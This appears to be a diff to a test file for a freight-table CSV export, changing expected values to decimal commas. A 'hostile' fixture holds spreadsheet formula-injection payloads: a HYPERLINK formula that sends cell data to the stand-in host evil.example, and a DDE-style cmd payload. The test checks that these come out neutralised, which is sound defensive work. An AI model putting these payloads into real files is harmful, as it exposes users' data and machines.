@@ -129,11 +129,12 @@ describe.each(testDatabaseTargets())('freight tables on $dialect', (target) => {
       headers: { ...admin, accept: 'text/csv' },
     });
     expect(rows.headers['content-type']).toBe('text/csv; charset=utf-8');
+    // Uploaded with decimal commas, downloaded with them (D62).
     expect(rows.body.split('\r\n')).toEqual([
       VTEX_HEADER,
-      '01000000;01999999;SP capital;0;1000;10.5;1;2;;2.00:00:00;BRA;0',
-      '01000000;01999999;SP capital;1001;5000;15;2;3.5;50000;1.12:00:00;BRA;5',
-      '20000000;28999999;RJ;0;5000;25;0;0;;72:00:00;BRA;0',
+      '01000000;01999999;SP capital;0;1000;10,50;1;2,00;;2.00:00:00;BRA;0,00',
+      '01000000;01999999;SP capital;1001;5000;15,00;2;3,50;50000;1.12:00:00;BRA;5,00',
+      '20000000;28999999;RJ;0;5000;25,00;0;0,00;;72:00:00;BRA;0,00',
       '',
     ]);
 
@@ -233,10 +234,10 @@ describe.each(testDatabaseTargets())('freight tables on $dialect', (target) => {
     const first = await download('hostile');
     expect(first.split('\r\n')).toEqual([
       VTEX_HEADER,
-      `01000000;01999999;"'=HYPERLINK(""http://evil.example/?""&A1,""Clique"")";0;1000;10.5;1;2;;2;BRA;0`,
-      `02000000;02999999;"'+cmd|' /C calc'!A0";0;1000;10.5;1;2;;2;"'@SUM(1+1)";0`,
-      `03000000;03999999;"'-2+3";0;1000;10.5;1;2;;2;"'=1+1";0`,
-      '04000000;04999999;Zona norte;0;1000;10.5;1;2;;2;BRA;0',
+      `01000000;01999999;"'=HYPERLINK(""http://evil.example/?""&A1,""Clique"")";0;1000;10,50;1;2,00;;2;BRA;0,00`,
+      `02000000;02999999;"'+cmd|' /C calc'!A0";0;1000;10,50;1;2,00;;2;"'@SUM(1+1)";0,00`,
+      `03000000;03999999;"'-2+3";0;1000;10,50;1;2,00;;2;"'=1+1";0,00`,
+      '04000000;04999999;Zona norte;0;1000;10,50;1;2,00;;2;BRA;0,00',
       '',
     ]);
     // No cell of the download begins with a formula character, once its CSV quotes are taken off.
